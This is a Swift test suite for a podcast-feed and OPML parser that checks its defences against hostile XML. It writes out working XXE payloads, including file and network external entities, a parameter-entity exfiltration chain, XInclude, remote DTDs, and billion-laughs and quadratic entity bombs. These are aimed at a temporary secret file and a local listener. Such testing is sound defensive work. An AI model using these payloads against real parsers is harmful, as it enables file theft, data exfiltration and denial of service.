import Foundation
import MediaSyncFeeds
import MediaSyncTestSupport
import Testing

#if canImport(Glibc)
    import Glibc
#endif

/// Documents built to hurt the parser: external entities and DTDs that point at a local file
/// and at a listener on 127.0.0.1, parameter-entity exfiltration, XInclude, entity bombs. Every entry point (in
/// memory, both ``FeedJSON`` writers, ``OPML``) must answer with a result or a clear ``FeedError``; the file's
/// content must appear nowhere, the listener must see no connection, and a child process parsing the bombs must
/// stay within a memory bound. `FeedParserSafetyTests` holds the single-document basics (billion laughs,
/// recursive and quadratic entities, `/etc/passwd`).
@Suite("hostile documents: no file read, no network contact, bounded memory")
struct HostileDocumentTests {
    /// A TCP listener on 127.0.0.1 that counts the connections made to it.
    final class Listener {
        let descriptor: Int32
        let port: Int

        init() throws {
            let descriptor = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
            guard descriptor >= 0 else { throw POSIXError(.EIO) }
            var address = sockaddr_in()
            address.sin_family = sa_family_t(AF_INET)
            address.sin_port = 0
            address.sin_addr.s_addr = inet_addr("127.0.0.1")
            let bound = withUnsafePointer(to: &address) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) {
                    bind(descriptor, $0, socklen_t(MemoryLayout<sockaddr_in>.size))
                }
            }
            guard bound == 0, listen(descriptor, 64) == 0 else {
                close(descriptor)
                throw POSIXError(.EADDRINUSE)
            }
            _ = fcntl(descriptor, F_SETFL, fcntl(descriptor, F_GETFL) | O_NONBLOCK)
            var length = socklen_t(MemoryLayout<sockaddr_in>.size)
            _ = withUnsafeMutablePointer(to: &address) {
                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(descriptor, $0, &length) }
            }
            self.descriptor = descriptor
            port = Int(UInt16(bigEndian: address.sin_port))
        }

        /// Connections waiting to be accepted (a connect completes in the kernel without an accept).
        func acceptPending() -> Int {
            var count = 0
            while true {
                let client = accept(descriptor, nil, nil)
                guard client >= 0 else { return count }
                close(client)
                count += 1
            }
        }

        deinit { close(descriptor) }
    }

    /// A file whose content must never reach any output.
    struct SecretFile {
        let path: String
        let marker: String

        init() throws {
            marker = "MEDIASYNC-SECRET-FILE-CONTENT-\(UUID().uuidString)"
            path = FileManager.default.temporaryDirectory.appendingPathComponent("secret-\(UUID().uuidString).txt").path
            try Data((marker + "\n").utf8).write(to: URL(fileURLWithPath: path))
        }
    }

    /// `(name, document)` pairs; `PORT` and `SECRET` are filled in.
    static func documents(port: Int, secret: String) -> [(String, String)] {
        let http = "http://127.0.0.1:\(port)"
        let body = """
            <rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>a&xxe;b</title>
            <description>&xxe;</description><item><guid>g&xxe;</guid><title>&xxe;</title>
            <enclosure url="https://cdn.example.org/&xxe;.mp3" type="audio/mpeg"/></item></channel></rss>
            """
        let opmlBody = """
            <opml version="2.0"><body><outline text="&xxe;" title="t&xxe;" xmlUrl="https://feeds.example.org/&xxe;"/></body></opml>
            """
        var documents: [(String, String)] = []
        for (label, declaration) in [
            ("file URL entity", "<!ENTITY xxe SYSTEM \"file://\(secret)\">"),
            ("path entity", "<!ENTITY xxe SYSTEM \"\(secret)\">"),
            ("public file entity", "<!ENTITY xxe PUBLIC \"-//mediasync//x\" \"file://\(secret)\">"),
            ("http entity", "<!ENTITY xxe SYSTEM \"\(http)/entity\">"),
            ("ftp entity", "<!ENTITY xxe SYSTEM \"ftp://127.0.0.1:\(port)/entity\">"),
            (
                "parameter entity from http",
                "<!ENTITY % remote SYSTEM \"\(http)/evil.dtd\"> %remote; <!ENTITY xxe \"x\">"
            ),
            ("parameter entity from a file", "<!ENTITY % file SYSTEM \"file://\(secret)\"> %file; <!ENTITY xxe \"x\">"),
            (
                "parameter entity exfiltration",
                """
                <!ENTITY % file SYSTEM "file://\(secret)">
                <!ENTITY % eval "<!ENTITY &#x25; exfil SYSTEM '\(http)/?x=%file;'>">
                %eval; %exfil; <!ENTITY xxe "x">
                """
            ),
        ] {
            documents.append(("\(label), feed", "<?xml version=\"1.0\"?>\n<!DOCTYPE rss [\(declaration)]>\n\(body)"))
            documents.append(
                ("\(label), OPML", "<?xml version=\"1.0\"?>\n<!DOCTYPE opml [\(declaration)]>\n\(opmlBody)"))
        }
        documents += [
            ("external DTD over http", "<?xml version=\"1.0\"?>\n<!DOCTYPE rss SYSTEM \"\(http)/feed.dtd\">\n\(body)"),
            (
                "external DTD from a file",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE rss SYSTEM \"file://\(secret)\">\n\(body)"
            ),
            (
                "public DTD over http",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE rss PUBLIC \"-//x//DTD//EN\" \"\(http)/p.dtd\">\n\(body)"
            ),
            (
                "external DTD and internal subset",
                "<?xml version=\"1.0\"?>\n<!DOCTYPE rss SYSTEM \"\(http)/a.dtd\" [<!ENTITY xxe SYSTEM \"file://\(secret)\">]>\n\(body)"
            ),
            (
                "XInclude",
                """
                <?xml version="1.0"?>
                <rss version="2.0" xmlns:xi="http://www.w3.org/2001/XInclude"><channel><title>x</title>
                <description><xi:include href="file://\(secret)" parse="text"/></description>
                <xi:include href="\(http)/include.xml"/>
                <item><guid>1</guid><title><xi:include href="\(secret)" parse="text"><xi:fallback>fb</xi:fallback></xi:include></title></item>
                </channel></rss>
                """
            ),
            (
                "stylesheet and xml:base pointing at the listener",
                """
                <?xml version="1.0"?>
                <?xml-stylesheet type="text/xsl" href="\(http)/style.xsl"?>
                <rss version="2.0" xml:base="\(http)/"><channel><title>x</title><item><guid>1</guid>
                <enclosure url="e.mp3" type="audio/mpeg"/></item></channel></rss>
                """
            ),
            (
                "schema location",
                """
                <?xml version="1.0"?>
                <feed xmlns="http://www.w3.org/2005/Atom" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
                  xsi:schemaLocation="http://www.w3.org/2005/Atom \(http)/atom.xsd"><title>x</title></feed>
                """
            ),
        ]
        return documents
    }

    /// Every entry point on one document: what it printed and what it threw, as text (four outputs, plus an error
    /// for each writer that threw).
    static func outputs(of document: [UInt8], folder: URL) throws -> [String] {
        var outputs: [String] = []
        switch Result(catching: { try FeedParser.parse(document, baseURL: "https://feeds.example.org/show.xml") }) {
        case .success(let feed): outputs.append(try FeedJSON.encode(feed))
        case .failure(let error):
            #expect(error is FeedError, "FeedParser.parse threw \(error)")
            outputs.append("\(error)")
        }
        let input = folder.appendingPathComponent("hostile-\(UUID().uuidString).xml")
        try Data(document).write(to: input)
        defer { try? FileManager.default.removeItem(at: input) }
        for fromFile in [true, false] {
            let output = folder.appendingPathComponent("hostile-\(UUID().uuidString).json")
            _ = FileManager.default.createFile(atPath: output.path, contents: nil)
            defer { try? FileManager.default.removeItem(at: output) }
            let handle = try FileHandle(forWritingTo: output)
            do {
                if fromFile {
                    try FeedJSON.write(feedAtPath: input.path, baseURL: nil, to: handle.fileDescriptor)
                } else {
                    try FeedJSON.write(feedBytes: document, baseURL: nil, to: handle.fileDescriptor)
                }
            } catch {
                #expect(error is FeedError, "FeedJSON.write threw \(error)")
                outputs.append("\(error)")
            }
            try handle.close()
            // An empty output (the write refused the document) is not read with Foundation: its read of an empty
            // file keeps the 4 KiB buffer it read into, which fails this child under LeakSanitizer.
            let size = (try FileManager.default.attributesOfItem(atPath: output.path)[.size] as? Int) ?? 0
            outputs.append(size == 0 ? "" : try String(contentsOf: output, encoding: .utf8))
        }
        switch Result(catching: { try OPML.parse(document) }) {
        case .success(let outlines): outputs.append("\(outlines)")
        case .failure(let error):
            #expect(error is FeedError, "OPML.parse threw \(error)")
            outputs.append("\(error)")
        }
        return outputs
    }

    @Test("external entities, DTDs and XIncludes: nothing read, nothing contacted, entities not substituted")
    func externalReferences() throws {
        let listener = try Listener()
        let secret = try SecretFile()
        defer { try? FileManager.default.removeItem(atPath: secret.path) }
        let folder = FileManager.default.temporaryDirectory
        let documents = Self.documents(port: listener.port, secret: secret.path)
        #expect(documents.count >= 20)
        var parsed = 0
        for (name, text) in documents {
            for bytes in [Array(text.utf8), Self.utf16(text)] {
                let outputs = try Self.outputs(of: bytes, folder: folder)
                #expect(outputs.count >= 4)
                for output in outputs {
                    // The document names the file (an XInclude's href is kept as markup in a description), but
                    // its content never comes out.
                    #expect(!output.contains(secret.marker), "\(name): the secret file's content came out")
                    #expect(!output.contains("MEDIASYNC-SECRET-FILE-CONTENT"), "\(name)")
                }
                if outputs.first?.hasPrefix("{") == true { parsed += 1 }
            }
        }
        // The feeds themselves are read (recover mode, references dropped), not refused wholesale.
        #expect(parsed >= documents.count / 2)
        #expect(listener.acceptPending() == 0, "the parser contacted 127.0.0.1:\(listener.port)")
    }

    @Test("a feed with an external entity keeps its text around the dropped reference")
    func droppedReference() throws {
        let listener = try Listener()
        let secret = try SecretFile()
        defer { try? FileManager.default.removeItem(atPath: secret.path) }
        let documents = Self.documents(port: listener.port, secret: secret.path)
        let external = [
            "file URL entity, feed", "path entity, feed", "public file entity, feed", "http entity, feed",
            "ftp entity, feed",
        ]
        for (name, text) in documents where external.contains(name) {
            let feed = try FeedParser.parse(Array(text.utf8), baseURL: nil)
            #expect(feed.title == "ab", "\(name)")
            #expect(feed.episodes.first?.guid == "g", "\(name)")
            #expect(feed.episodes.first?.enclosure?.url == "https://cdn.example.org/.mp3", "\(name)")
        }
        #expect(listener.acceptPending() == 0)
        #expect(documents.filter { external.contains($0.0) }.count == external.count)
    }

    static func utf16(_ text: String) -> [UInt8] {
        [0xFF, 0xFE] + text.utf16.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
    }

    // MARK: Memory

    /// The bombs a child process parses while its peak memory is measured, each made only when asked for.
    static let bombs: [@Sendable () -> [UInt8]] = {
        let lol = (1...9).map { level in
            "<!ENTITY lol\(level) \"" + String(repeating: "&lol\(level - 1);", count: 10) + "\">"
        }.joined()
        let laughs = "<!ENTITY lol0 \"lol\">" + lol
        let big = "<!ENTITY big \"\(String(repeating: "x", count: 60_000))\">"
        let references = String(repeating: "&big;", count: 2_000)
        return [
            { Array(FeedParserSafetyTests.billionLaughs.utf8) },
            {
                Array(
                    "<!DOCTYPE rss [\(laughs)]><rss><channel><title>t</title><item><enclosure url=\"&lol9;\"/></item></channel></rss>"
                        .utf8)
            },
            {
                Array(
                    "<!DOCTYPE opml [\(laughs)]><opml><body><outline text=\"&lol9;\" xmlUrl=\"https://a.example.org/\"/></body></opml>"
                        .utf8)
            },
            {
                Array(
                    "<!DOCTYPE rss [\(big)]><rss><channel><title>t</title><description>\(references)</description></channel></rss>"
                        .utf8)
            },
            {
                Array(
                    "<!DOCTYPE rss [\(big)]><rss><channel><item><enclosure url=\"\(references)\"/></item></channel></rss>"
                        .utf8)
            },
            // Many entities, each under the per-entity limit: the total budget stops them.
            {
                Array(
                    ("<!DOCTYPE rss ["
                        + (0..<200).map { "<!ENTITY e\($0) \"\(String(repeating: "y", count: 50_000))\">" }.joined()
                        + "]><rss><channel><title>t</title><description>"
                        + (0..<200).map { "&e\($0);&e\($0);" }.joined()
                        + "</description></channel></rss>").utf8)
            },
            { Array(("<rss><channel>" + String(repeating: "<item>", count: 100_000) + "</channel></rss>").utf8) },
            {
                Array(
                    ("<rss><channel><item><enclosure url=\"" + String(repeating: "a", count: 8_000_000)
                        + "\"/></item></channel></rss>").utf8)
            },
        ]
    }()

    /// The child: parses the bombs (or, as the control, one small feed) through every entry point, then exits.
    @Test(
        "child process of the memory bound (MEDIASYNC_HOSTILE_CHILD)",
        .enabled(if: ProcessInfo.processInfo.environment["MEDIASYNC_HOSTILE_CHILD"] != nil))
    func memoryChild() throws {
        let environment = ProcessInfo.processInfo.environment
        let mode = environment["MEDIASYNC_HOSTILE_CHILD"] ?? ""
        let documents = try Int(mode).map { [Self.bombs[$0]()] } ?? [FeedFixture.bytes("rss2_basic")]
        for document in documents {
            #expect(try Self.outputs(of: document, folder: FileManager.default.temporaryDirectory).count >= 4)
        }
        // VmHWM is this process's own peak: getrusage's maxrss would include the parent's size at the spawn
        // (Linux records the memory a vfork child shared with its parent when it calls exec).
        let status = try String(contentsOfFile: "/proc/self/status", encoding: .utf8)
        let line = try #require(status.split(separator: "\n").first { $0.hasPrefix("VmHWM:") })
        let kilobytes = try #require(line.split(separator: " ").dropFirst().first.flatMap { Int($0) })
        let result = try #require(environment["MEDIASYNC_HOSTILE_RESULT"])
        try "\(kilobytes)".write(toFile: result, atomically: true, encoding: .utf8)
    }

    @Test("entity bombs, deep nesting and huge values: memory stays bounded (peak RSS of a child process per bomb)")
    func memoryBound() async throws {
        let control = try await Self.childPeakRSS(mode: "control")
        #expect(control.status == 0, "the control child failed: \(control.status)")
        #expect(control.peakKB > 0)
        var figures: [String] = []
        for index in Self.bombs.indices {
            let bomb = try await Self.childPeakRSS(mode: "\(index)")
            let growth = bomb.peakKB - control.peakKB
            figures.append("\(index): +\(growth / 1024) MB")
            #expect(bomb.status == 0 && bomb.peakKB > 0, "bomb \(index): the child failed (\(bomb.status))")
            // Billion laughs alone would expand to 3 GB; the 8 MB attribute costs a few copies of itself in a debug
            // build (measured: +89 MB), the others less than 50 MB.
            // Under AddressSanitizer the peak is ASan's (shadow memory, quarantine): the bound is not measured there.
            #expect(
                Sanitizers.addressSanitizerIsOn || growth < 128 * 1024,
                "bomb \(index): peak RSS grew by \(growth / 1024) MB")
        }
        print(
            "hostile documents: peak RSS \(control.peakKB / 1024) MB with a small feed; per bomb \(figures.joined(separator: ", "))"
        )
    }

    /// Runs this test binary's ``memoryChild()`` in a child process and returns its exit status and peak RSS
    /// (its VmHWM, which it writes to a file).
    static func childPeakRSS(mode: String) async throws -> (status: Int32, peakKB: Int) {
        try await offThePool { try spawnChild(mode: mode) }
    }

    private static func spawnChild(mode: String) throws -> (status: Int32, peakKB: Int) {
        let result = FileManager.default.temporaryDirectory.appendingPathComponent("hostile-\(UUID().uuidString).txt")
            .path
        defer { try? FileManager.default.removeItem(atPath: result) }
        let executable = URL(fileURLWithPath: "/proc/self/exe").resolvingSymlinksInPath().path
        let arguments = [
            executable, "--testing-library", "swift-testing", "--filter", "HostileDocumentTests/memoryChild",
        ]
        var environment = ProcessInfo.processInfo.environment
        environment["MEDIASYNC_HOSTILE_CHILD"] = mode
        environment["MEDIASYNC_HOSTILE_RESULT"] = result
        let argv = arguments.map { strdup($0) } + [nil]
        let envp = environment.map { strdup("\($0.key)=\($0.value)") } + [nil]
        defer {
            argv.forEach { free($0) }
            envp.forEach { free($0) }
        }
        var actions = posix_spawn_file_actions_t()
        posix_spawn_file_actions_init(&actions)
        defer { posix_spawn_file_actions_destroy(&actions) }
        posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0)
        posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0)
        var pid = pid_t()
        let spawned = posix_spawn(&pid, executable, &actions, nil, argv, envp)
        guard spawned == 0 else { throw POSIXError(POSIXErrorCode(rawValue: spawned) ?? .EIO) }
        var status: Int32 = 0
        while waitpid(pid, &status, 0) < 0 {
            guard errno == EINTR else { throw POSIXError(.ECHILD) }
        }
        let peak = (try? String(contentsOfFile: result, encoding: .utf8)).flatMap { Int($0) } ?? -1
        return (status, peak)
    }
}
